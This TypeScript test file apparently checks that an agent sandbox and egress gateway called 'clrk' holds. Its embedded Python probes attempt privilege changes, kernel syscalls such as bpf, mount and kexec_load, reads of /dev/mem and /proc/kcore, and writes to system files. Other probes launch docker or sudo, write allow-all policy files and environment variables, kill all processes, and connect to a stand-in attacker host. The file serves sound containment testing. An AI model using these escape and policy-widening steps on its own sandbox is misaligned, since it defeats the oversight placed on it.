/**
 * No user, process, file or variable inside is trusted with anything: whoever an agent becomes, whatever it ends,
 * traces, mounts or writes, it stays captured or ends with its network. T62, T65, T75, T77, T100, T111.
 */
import assert from 'node:assert/strict'
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import test from 'node:test'
import { auditLines, clrkRun, makeWorkspace } from '../world/clrk.ts'
import { ATTACKER } from '../world/names.ts'
import { createWorld } from '../world/world.ts'
import { assertOutcomes, runProbes } from './probe.ts'

test('whoever it becomes and whatever it ends, an agent is captured', async t => {
  const world = await createWorld(t)
  const workspace = makeWorkspace(world)
  // What an agent would write to widen its own policy: nothing of clrk reads a workspace.
  const wide =
    'apiVersion: clrk.apoxy.dev/v1alpha1\nkind: EgressGateway\nmetadata: {name: run}\nspec: {defaultPolicy: allow-all}\n'
  for (const name of ['clrk.yaml', '.clrk.yaml', 'policy.yaml']) writeFileSync(join(workspace, name), wide)
  const options = { allow: ['echo.example.com'], user: '0', workspace, cwd: workspace } as const
  const outcomes = await runProbes(world, SCRIPT, options)
  const named = (pattern: RegExp) => Object.keys(outcomes).filter(name => pattern.test(name))
  assertOutcomes(outcomes, /^(200 .*captured|E[A-Z]+)$/, named(/^uid/))
  assertOutcomes(outcomes, /^(failed|not there|E[A-Z]+)$/, named(/^tried/))
  assertOutcomes(outcomes, /^403 CLRK_NAME_NOT_ALLOWED$/, named(/^own policy/))
  assert.match(outcomes.before ?? '', /^200 /)
  assert.ok(named(/^tried/).length >= 20)

  const { code, signal, stdout } = await clrkRun(world, ['python3', '-c', KILLS], { ...options, timeoutMs: 60_000 })
  assert.ok(code !== null || signal !== null)
  assert.doesNotMatch(stdout, /reached/)
  for (const name of ['clrk.yaml', '.clrk.yaml', 'policy.yaml']) {
    assert.equal(readFileSync(join(workspace, name), 'utf8'), wide)
  }
  assert.deepEqual(await world.arrivals(), [])
  assert.deepEqual(new Set((await world.requests()).map(({ server }) => server)), new Set(['echo.example.com']))
  assert.ok(auditLines(world).every(({ agent }) => agent === 'Run/default/python3')) // never another name
})

const SCRIPT = `
import ctypes, glob
attempt("before", https, "echo.example.com")
libc = ctypes.CDLL(None, use_errno=True)
def as_user(uid):
    if os.fork() == 0:
        try:
            os.setresgid(uid, uid, uid); os.setresuid(uid, uid, uid)
            status = https("echo.example.com")[:3]
            outcome = f"{status} captured" if tcp("${ATTACKER.v4}", 22) == "closed" else "OUT"
        except ConnectionError: outcome = f"{status} captured"
        except OSError as error: outcome = errno.errorcode.get(error.errno, str(error))
        open(f"outcome-{uid}", "w").write(outcome)
        os._exit(0)
    os.wait()
    return open(f"outcome-{uid}").read()
os.chdir("/tmp")
for uid in (1, 999, 1000, 1337, 15001, 65534, 65535, 0x70000000): attempt(f"uid {uid}", as_user, uid)

def call(number, *arguments):
    if libc.syscall(number, *arguments) == -1: raise OSError(ctypes.get_errno(), "")
    return "done"
def run(*argv): return "done" if subprocess.run(argv, stdout=-3, stderr=-3).returncode == 0 else "failed"
def write(path, text):
    with open(path, "w") as file: file.write(text)
    return "written"
def reads(path):
    with open(path, "rb") as file: return "read" if file.read(64) else "not there"
for name, number, arguments in (
    ("bpf", 321, (0, 0, 0)), ("perf_event_open", 298, (0, 0, -1, -1, 0)), ("userfaultfd", 323, (1,)), ("mount", 165, (0, 0, 0, 0, 0)),
    ("fsopen", 430, (b"tmpfs", 0)), ("open_tree", 428, (-100, b"/", 1)), ("move_mount", 429, (-1, 0, -1, 0, 0)), ("setns", 308, (0, 0)),
    ("unshare", 272, (0x10000000,)), ("clone3", 435, (0, 88)), ("open_by_handle_at", 304, (-1, 0, 0)), ("pidfd_getfd", 438, (0, 0, 0)),
    ("kcmp", 312, (1, 1, 0, 0, 0)), ("syslog", 103, (3, 0, 0)), ("kexec_load", 246, (0, 0, 0, 0)), ("init_module", 175, (0, 0, 0)),
    ("pivot_root", 155, (b"/", b"/")), ("chroot", 161, (b"/tmp",)), ("fanotify_init", 300, (0, 0)), ("io_uring_setup", 425, (8, 0)),
    ("keyctl", 250, (0, -3, 0)), ("swapon", 167, (b"/x", 0)), ("acct", 163, (0,)), ("quotactl", 179, (0, 0, 0, 0)),
) if os.uname().machine == "x86_64" else (): attempt(f"tried {name}", call, number, *arguments)
for path in ("/proc/1/mem", "/proc/kcore", "/proc/kmsg", "/dev/mem", "/dev/kmsg", "/proc/sys/kernel/core_pattern.x", "/sys/kernel/debug/x", "/sys/kernel/security/x"):
    attempt(f"tried reading {path}", reads, path)
for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/net/ipv4/ip_forward", "/proc/self/uid_map", "/proc/1/oom_score_adj",
    "/sys/fs/cgroup/cgroup.procs", "/etc/resolv.conf", "/etc/hosts", "/etc/ssl/certs/ca-certificates.crt"):
    attempt(f"tried writing {path}", write, path, "-1000" if "oom" in path else "x")
for tool in (("docker", "run", "x"), ("podman", "run", "x"), ("bwrap", "--ro-bind", "/", "/", "--unshare-net", "true"), ("sudo", "-n", "true"), ("su", "-c", "true"),
    ("xdg-open", "https://other.example.com"), ("open", "x"), ("wl-copy", "x"), ("dbus-send", "--system", "--dest=x", "/x", "x.x"), ("systemctl", "start", "x")):
    attempt(f"tried {tool[0]}", lambda: run(*tool))
for name in ("CLRK_STATE", "CLRK_ALLOW", "HTTPS_PROXY", "NODE_OPTIONS"): os.environ[name] = "allow-all"
attempt("own policy", https, "other.example.com")
`

const KILLS = `
import os, signal, socket
try: os.kill(1, signal.SIGKILL)
except OSError: pass
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    if pid == os.getpid(): continue
    try: os.kill(pid, signal.SIGKILL)
    except OSError: pass
try:
    connection = socket.create_connection(("${ATTACKER.v4}", 22), timeout=5)
    connection.sendall(b"x")
    print("reached" if connection.recv(1) else "closed", flush=True)
except OSError: pass
`
